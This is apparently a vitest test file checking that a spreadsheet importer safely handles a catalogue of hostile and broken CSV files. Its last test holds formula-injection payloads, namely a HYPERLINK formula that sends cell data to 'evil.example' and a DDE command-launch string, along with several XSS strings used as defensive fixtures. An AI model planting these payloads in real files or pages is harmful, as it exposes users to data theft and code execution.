import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { problemToString } from '../../../src/shared/dataset/problem.ts';
import { importInput, type ImportResult } from '../../../src/shared/import/importInput.ts';
import { generateHostileCsv } from '../../fixtures/hostile-csv/generate.ts';

/*
 * A catalogue of hostile and broken spreadsheets (tests/fixtures/hostile-csv/manifest.json).
 * Each ends in a clear message (outcome "fatal"), a partial import with its problems, or a clean
 * import ("valid", no problem), never an exception; text stays text.
 */

const DIR = 'tests/fixtures/hostile-csv';

interface Entry {
  file: string;
  why: string;
  outcome: 'fatal' | 'partial' | 'valid';
  events: number;
  message?: string;
  problems?: number;
}

const manifest = JSON.parse(readFileSync(join(DIR, 'manifest.json'), 'utf8')) as Entry[];

describe('hostile spreadsheet catalogue', () => {
  beforeAll(async () => {
    await generateHostileCsv(join(DIR, 'generated'));
  }, 60_000);

  it('covers formula cells, HTML, control characters, 100,000 rows, a 5 MB cell, mismatched quotes, duplicate headers, UTF-16 and a ZIP file', () => {
    for (const f of ['formula-cells', 'html-cells', 'control-characters', 'rows-100k', 'cell-5mb', 'mismatched-quotes', 'duplicate-headers', 'utf16le-bom', 'xlsx-renamed']) {
      expect(manifest.some((e) => e.file.includes(f)), f).toBe(true);
    }
  });

  it.each(manifest.map((e) => [e.why, e] as const))(
    '%s',
    (_why, entry) => {
      let r: ImportResult | undefined;
      expect(() => {
        r = importInput(new Uint8Array(readFileSync(join(DIR, entry.file))));
      }).not.toThrow();
      const result = r!;
      const strings = result.problems.map(problemToString);
      expect(result.fatal, strings.slice(0, 5).join('\n')).toBe(entry.outcome === 'fatal');
      expect(result.dataset?.events.length ?? 0).toBe(entry.events);
      if (entry.message !== undefined) expect(strings.some((s) => s.includes(entry.message!)), strings.slice(0, 5).join('\n')).toBe(true);
      if (entry.outcome === 'partial') expect(result.problems.length).toBeGreaterThan(0);
      if (entry.problems !== undefined) expect(strings).toHaveLength(entry.problems);
      for (const p of result.problems) {
        expect(p.path).not.toBe('');
        expect(p.message.length).toBeLessThan(400);
      }
      expect(Object.prototype).not.toHaveProperty('polluted');
    },
    60_000,
  );

  it('keeps formula cells and markup as the very text of the cell', () => {
    const formulas = importInput(readFileSync(join(DIR, 'formula-cells.csv'), 'utf8')).dataset!;
    expect(formulas.events[0]).toMatchObject({ title: '=HYPERLINK("https://evil.example/?"&A1;"Click")', summary: "+cmd|' /C calc'!A0" });
    const html = importInput(readFileSync(join(DIR, 'html-cells.csv'), 'utf8')).dataset!;
    expect(html.title).toBe('<img src=x onerror=alert(1)>');
    expect(html.events[0]).toMatchObject({ title: '<b onmouseover=alert(1)>Bold</b>', summary: '<iframe src="javascript:alert(1)"></iframe>' });
    expect(html.actors[0]).toMatchObject({ id: 'script-alert-1-script', name: '<script>alert(1)</script>' });
  });
});
